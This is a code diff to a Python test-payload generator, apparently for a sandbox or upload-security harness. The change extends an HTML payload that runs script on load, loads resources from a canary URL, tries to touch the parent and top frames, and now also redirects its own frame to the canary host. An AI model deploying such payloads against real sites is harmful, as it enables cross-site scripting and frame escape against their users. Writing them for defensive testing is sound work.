@@ -92,7 +92,9 @@ def html_payload(canary: str) -> bytes:
     code = js(canary)
     return (f"<html><head><script>{code}</script></head><body onload=\"{code}\">"
             f"<img src='{canary}/html-img'><iframe src='{canary}/html-frame'></iframe>"
-            f"<script>try{{parent.__pwned=1;top.document.title='PWNED'}}catch(e){{}}</script></body></html>").encode()
+            f"<script>try{{parent.__pwned=1;top.document.title='PWNED'}}catch(e){{}}"
+            # (then it takes its own frame out of the site: no policy of its own forbids that)
+            f"setTimeout(function(){{location.href='{canary}/html-nav'}},50)</script></body></html>").encode()
 
 
 def svg_payload(canary: str) -> bytes:
